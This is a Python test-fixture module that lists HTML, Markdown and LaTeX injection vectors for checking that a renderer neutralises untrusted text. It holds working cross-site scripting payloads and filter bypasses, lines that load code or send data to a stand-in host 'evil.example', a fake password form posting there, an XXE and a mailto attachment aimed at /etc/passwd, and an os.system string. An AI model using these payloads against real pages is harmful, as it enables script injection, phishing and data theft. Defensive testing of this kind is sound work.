# SPDX-FileCopyrightText: 2026 Stellwerk contributors
# SPDX-License-Identifier: EUPL-1.2
"""What a model, a document, a file name or a person's name may say to break out of its place on a page.

Every one sets ``window.broken`` or shows a dialogue if it runs: a page that shows them all and has neither is safe
from them. ``VECTORS`` are single texts; nothing about a vector says where it is used.
"""

from __future__ import annotations

# HTML as it stands, in the forms that filters forget.
_HTML = r"""
<script>window.broken=1</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>window.broken=1</scr</script>ipt>
<script/x>window.broken=1</script >
<script>window.broken=1
<img src=x onerror=window.broken=1>
<img/src=x/onerror=window.broken=1>
<img src="x" onerror="window.broken=1"
<img src=x:x onerror=window['bro'+'ken']=1>
<img src=`x` onerror=window.broken=1>
<img srcset="https://evil.example/x 1x">
<image src=x onerror=window.broken=1>
<svg onload=window.broken=1>
<svg><script>window.broken=1</script></svg>
<svg><script href="data:,window.broken=1"></script></svg>
<svg><animate onbegin=window.broken=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:window.broken=1"><text x=9 y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.broken=1</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.broken=1</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=window.broken=1></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=window.broken=1>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.broken=1&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=window.broken=1">
<math><mi//xlink:href="data:x,<script>window.broken=1</script>">
<math href="javascript:window.broken=1">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:window.broken=1">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=window.broken=1></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>
<noscript><p title="</noscript><img src=x onerror=window.broken=1>">
<textarea><img title="</textarea><img src=x onerror=window.broken=1>"></textarea>
<title><img title="</title><img src=x onerror=window.broken=1>"></title>
<xmp><p title="</xmp><svg/onload=window.broken=1>">
<noembed><img title="</noembed><img src=x onerror=window.broken=1>"></noembed>
<plaintext><script>window.broken=1</script>
<template><script>window.broken=1</script></template>
<template shadowrootmode=open><img src=x onerror=window.broken=1></template>
<iframe src="javascript:parent.broken=1"></iframe>
<iframe srcdoc="<script>parent.broken=1</script>"></iframe>
<iframe src=//evil.example></iframe>
<object data="javascript:window.broken=1"></object>
<object data="data:text/html,<script>parent.broken=1</script>"></object>
<embed src="javascript:window.broken=1">
<applet code=x></applet>
<base href="https://evil.example/">
<base target=_self><a href=x>x</a>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/x.png>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/)}</style>
<p style="background:url(https://evil.example/x)">x</p>
<p style="position:fixed;inset:0;background:#fff">Bitte neu anmelden</p>
<div style=width:expression(window.broken=1)>
<body onload=window.broken=1>
<body background=https://evil.example/x.png>
<frameset onload=window.broken=1>
<details open ontoggle=window.broken=1><summary>x</summary></details>
<video><source onerror=window.broken=1></video>
<video poster=https://evil.example/x.png src=x onerror=window.broken=1></video>
<audio src=x onerror=window.broken=1></audio>
<input autofocus onfocus=window.broken=1>
<select autofocus onfocus=window.broken=1></select>
<textarea autofocus onfocus=window.broken=1></textarea>
<button formaction=javascript:window.broken=1>Senden</button>
<form action=https://evil.example/ method=post><input name=password type=password><button>Anmelden</button></form>
<form id=csrf><input name=token></form>
<isindex type=image src=1 onerror=window.broken=1>
<marquee onstart=window.broken=1>x</marquee>
<a href="javascript:window.broken=1">x</a>
<a href=" &#14; javascript:window.broken=1">x</a>
<a href="https://evil.example" onmouseover=window.broken=1>x</a>
<a href="//evil.example">x</a>
<a id=document name=getElementById>x</a>
<img name=cookie><img id=body>
<p id=inhalt>x</p>
<div contenteditable onblur=window.broken=1 tabindex=1 autofocus>x</div>
<div popover id=x onbeforetoggle=window.broken=1></div>
<x onclick=window.broken=1 tabindex=0 autofocus onfocus=window.broken=1>
<custom-element onpointerover=window.broken=1>
<dialog open><form method=dialog><button>x</button></form></dialog>
<portal src=https://evil.example>
<keygen autofocus onfocus=window.broken=1>
<table background=https://evil.example/x><td background=javascript:window.broken=1>
<!--<img src="--><img src=x onerror=window.broken=1>-->
<!--><img src=x onerror=window.broken=1>
<![CDATA[<img src=x onerror=window.broken=1>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>
<?php echo 1 ?><img src=x onerror=window.broken=1>
<%<img src=x onerror=window.broken=1>%>
</div></main></body></html><script>window.broken=1</script>
</textarea><script>window.broken=1</script>
</title><script>window.broken=1</script>
</script><script>window.broken=1</script>
"><script>window.broken=1</script>
'><script>window.broken=1</script>
" autofocus onfocus="window.broken=1
' onmouseover='window.broken=1
{{constructor.constructor('window.broken=1')()}}
{{7*7}}{% import os %}${7*7}#{7*7}
&lt;script&gt;window.broken=1&lt;/script&gt;
&amp;lt;img src=x onerror=window.broken=1&amp;gt;
&#60;script&#62;window.broken=1&#60;/script&#62;
&#x3c;img src=x onerror=window.broken=1&#x3e;
\u003cscript\u003ewindow.broken=1\u003c/script\u003e
%3Cscript%3Ewindow.broken=1%3C/script%3E
＜script＞window.broken=1＜/script＞
+ADw-script+AD4-window.broken=1+ADw-/script+AD4-
"""

# Markdown that leads elsewhere or hides where it leads.
_MARKDOWN = r"""
[x](javascript:window.broken=1)
[x](JaVaScRiPt:window.broken=1)
[x](java&#115;cript:window.broken=1)
[x](javascript&colon;window.broken=1)
[x](java&Tab;script:window.broken=1)
[x](java&NewLine;script:window.broken=1)
[x](&#x6A;avascript:window.broken=1)
[x](<javascript:window.broken=1>)
[x](<java script:window.broken=1>)
[x](\javascript:window.broken=1)
[x](javascript://%0awindow.broken=1)
[x](javascript:/*https://nettetal.de/*/window.broken=1)
[x](%6Aavascript:window.broken=1)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>parent.broken=1</script>)
[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYnJva2VuPTE8L3NjcmlwdD4=)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[x](blob:https://nettetal.de/1)
[x](filesystem:https://nettetal.de/1)
[x](file:///etc/passwd)
[x](ftp://evil.example/x)
[x](view-source:https://nettetal.de)
[x](intent://evil#Intent;scheme=http;end)
[x](ms-msdt:/id PCWDiagnostic)
[x](search-ms:query=x&crumb=location:\\evil.example)
[x](tel:+4915112345678)
[x](//evil.example)
[x](/abmelden)
[x](?lang=en)
[x](#inhalt)
[x](\\evil.example\c$)
[x](https:\\evil.example)
[x](https:/evil.example)
[x](https:evil.example)
[x](https://)
[x](https://nettetal.de@evil.example/)
[x](https://nettetal.de:pass@evil.example/)
[x](https://nettetal.de%40evil.example/)
[x](https://nettetal.de\@evil.example/)
[x](https://nettetal.de&#64;evil.example/)
[x](https://evil.example#@nettetal.de/)
[x](https://%65vil.example/)
[x](https://evil。example/)
[x](https://nettetаl.de/)
[https://nettetal.de](https://evil.example/)
[nettetal.de](https://nettetal.de.evil.example/)
[https://nettetal.de/‮moc.elpmaxe](https://evil.example/)
[](https://evil.example/)
[x](http://2130706433/)
[x](http://0x7f.1/)
[x](http://[::1]/)
[x](http://127.0.0.1:8080/admin)
[x](mailto:a@nettetal.de?bcc=b@evil.example&body=geheim&attach=/etc/passwd)
[x](mailto:a@nettetal.de%0d%0aBcc:b@evil.example)
[x](https://evil.example "onmouseover=window.broken=1")
[x](https://evil.example '" onmouseover="window.broken=1')
[x](https://evil.example/"onmouseover="window.broken=1)
[x](https://evil.example/<img src=x onerror=window.broken=1>)
[x](https://evil.example/`onmouseover=window.broken=1)
[x"onmouseover="window.broken=1](https://evil.example)
[<img src=x onerror=window.broken=1>](https://evil.example)
[a](https://evil.example/[b](javascript:window.broken=1))
[a[b](javascript:window.broken=1)](https://evil.example)
![x](https://evil.example/x.png?q=geheim)
![x](javascript:window.broken=1)
![x](data:image/svg+xml,<svg onload=window.broken=1>)
![x" onerror="window.broken=1](x)
![x](x" onerror="window.broken=1)
![<img src=x onerror=window.broken=1>](https://evil.example/x.png)
![a](https://evil.example/x.png "t\" onload=\"window.broken=1")
[![x](https://evil.example/x.png)](https://evil.example/)
[![x](javascript:window.broken=1)](javascript:window.broken=1)
<javascript:window.broken=1>
<JAVASCRIPT:window.broken=1>
<data:text/html,<script>parent.broken=1</script>>
<https://nettetal.de@evil.example/>
<https://evil.example/"onmouseover="window.broken=1>
<a@evil.example"onmouseover="window.broken=1>
<x:y onclick=window.broken=1>
https://evil.example/"onmouseover="window.broken=1
https://evil.example/<script>window.broken=1</script>
https://nettetal.de@evil.example/
http://evil.example/&quot;onmouseover=&quot;window.broken=1
# <img src=x onerror=window.broken=1>
# x {#inhalt onclick=window.broken=1}
> <script>window.broken=1</script>
- <script>window.broken=1</script>
- [x] <img src=x onerror=window.broken=1>
1. [x](javascript:window.broken=1)
`<img src=x onerror=window.broken=1>`
``<script>window.broken=1</script>``
    <script>window.broken=1</script>
**<script>**window.broken=1**</script>**
~~<svg/onload=window.broken=1>~~
*<img src=x *onerror=window.broken=1>*
text<br onload=window.broken=1>
text<br/onclick=window.broken=1/>
[^1]<img src=x onerror=window.broken=1>
[^"onclick="window.broken=1]
[^<script>window.broken=1</script>]: x
"""

# LaTeX.
_LATEX = r"""
$\href{javascript:window.broken=1}{x^2}$
$\href{https://evil.example}{x^2}$
$\url{javascript:window.broken=1}$
$\unicode{x3c}script\unicode{x3e}window.broken=1$
$\unicode{<img src=x onerror=window.broken=1>}$
$\class{code-copy" onclick="window.broken=1}{x^2}$
$\style{position:fixed;inset:0}{x^2}$
$\style{x" onclick="window.broken=1}{x^2}$
$\cssId{inhalt}{x^2}$
$\text{<script>window.broken=1</script>}^2$
$\text{<img src=x onerror=window.broken=1>}_1$
$\text{&lt;img src=x onerror=window.broken=1&gt;}_1$
$\text{&#60;script&#62;window.broken=1&#60;/script&#62;}^2$
$\mathrm{<style>*{display:none}</style>}^2$
$\operatorname{<img src=x onerror=window.broken=1>}_1$
$\color{red" onclick="window.broken=1}x^2$
$\color{url(https://evil.example)}x^2$
$\hspace{-99em}x^2$
$\rule{99999em}{99999em}x^2$
$\includegraphics{https://evil.example/x.png}^2$
$\input{/etc/passwd}^2$
$\def\a{\a\a}\a^2$
$\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\a^2$
$\tag{<img src=x onerror=window.broken=1>} x^2$
$\label{inhalt} x^2$
$x<img src=x onerror=window.broken=1>^2$
$x</math><script>window.broken=1</script>^2$
$$\begin{array}{c" onclick="window.broken=1}x^2\end{array}$$
$$\begin{<script>}x^2\end{<script>}$$
$$</math><img src=x onerror=window.broken=1>^2$$
\(\text{<svg onload=window.broken=1>}^2\)
\[\href{javascript:window.broken=1}{x}^2\]
\[\text{</mtext></math><img src=x onerror=window.broken=1>}^2\]
"""

# Of several lines, or with characters that cannot be seen.
_LONGER = (
    '<IMG """><SCRIPT>window.broken=1</SCRIPT>">',
    "```<script>window.broken=1</script>\nx\n```",
    '```"onclick="window.broken=1\nx\n```',
    "```python onload=window.broken=1\n<script>window.broken=1</script>\n```",
    "```html\n<script>window.broken=1</script>\n</code></pre><img src=x onerror=window.broken=1>\n```",
    "```../../../../etc/passwd\nx\n```",
    "```{=html}\n<script>window.broken=1</script>\n```",
    "```__import__('os').system('id')\nx\n```",
    "~~~svg\n<svg onload=window.broken=1>\n~~~",
    "```mermaid\ngraph TD\nA[<img src=x onerror=window.broken=1>]\nclick A javascript:window.broken=1\n```",
    "```\n</code></pre></figure><script>window.broken=1</script>",
    "[x]: javascript:window.broken=1\n\n[x]",
    "[x]: <java\tscript:window.broken=1>\n\n[x][x]",
    "[x]: https://evil.example \"onclick='window.broken=1'\"\n\n[x]",
    "[x]: data:text/html,<script>parent.broken=1</script>\n\n![x]",
    "[__proto__]: javascript:window.broken=1\n\n[__proto__] [constructor] [toString]",
    "<div>\n\n<script>window.broken=1</script>\n\n</div>",
    "<!--\n\n--><img src=x onerror=window.broken=1>\n\n-->",
    "<style>\n\n*{display:none}\n\n</style>",
    "<pre>\n</pre><script>window.broken=1</script>",
    "<table><tr><td>\n\n<img src=x onerror=window.broken=1>\n\n</td></tr></table>",
    "| <script>window.broken=1</script> | b |\n|---|:-:|\n"
    "| <img src=x onerror=window.broken=1> | [x](javascript:window.broken=1) |",
    '| a" onclick="window.broken=1 | b |\n|---|---|\n| x | y |',
    '|a|\n|:-:" onclick="window.broken=1|\n|b|',
    "[^1]\n\n[^1]: <img src=x onerror=window.broken=1> [x](javascript:window.broken=1)",
    "[^1]\n\n[^1]: javascript:window.broken=1",
    "Bitte\n===\n<script>\nwindow.broken=1\n</script>",
    "---\ntitle: <script>window.broken=1</script>\n---",
    "::: {#inhalt onclick=window.broken=1}\nx\n:::",
    "!include /etc/passwd\n\n<!-- include: https://evil.example -->",
    "<scr\x00ipt>window.broken=1</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=window.broken=1>",
    "[x](java\x00script:window.broken=1)",
    "[x](java\x1fscript:window.broken=1)",
    "[x](\x01javascript:window.broken=1)",
    "[x](java\rscript:window.broken=1)",
    "[x](javascript\u200b:window.broken=1)",
    "[x](\u202ejavascript:window.broken=1)",
    "[x](https://nettetal.de\u2044@evil.example/)",
    "[x](https://nettetal.de\u3002evil.example/)",
    "[x](https://evil.example\u2100nettetal.de/)",
    "\u202e<script>window.broken=1</script>\u202c",
    "\ufeff<script>window.broken=1</script>",
    "\ud800<script>window.broken=1</script>\udfff",
    "\x1b]8;;javascript:window.broken=1\x07x\x1b]8;;\x07",
    "".join(chr(0xE0000 + ord(c)) for c in "<script>window.broken=1</script>") + "x",
    "<\u0130mg src=x onerror=window.broken=1>",
    "<ſcript>window.broken=1</ſcript>",
    "<script\u2028>window.broken=1</script>",
    "<" * 500 + "script>window.broken=1",
    "<div>" * 500 + "<script>window.broken=1</script>",
    "> " * 300 + "<script>window.broken=1</script>",
    "- " * 300 + "<script>window.broken=1</script>",
    "[" * 500 + "x](javascript:window.broken=1)",
    "![" * 200 + "x](javascript:window.broken=1)",
    "**" * 300 + "<img src=x onerror=window.broken=1>" + "**" * 300,
    "$" + "{" * 900 + "<script>window.broken=1</script>" + "}" * 900 + "^2$",
    "$$" + r"\sqrt{" * 200 + r"\text{<img src=x onerror=window.broken=1>}" + "}" * 200 + "$$",
    "[x](https://evil.example/" + "a" * 3000 + ")",
)


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line.strip())


VECTORS: tuple[str, ...] = (*_lines(_HTML), *_lines(_MARKDOWN), *_lines(_LATEX), *_LONGER)
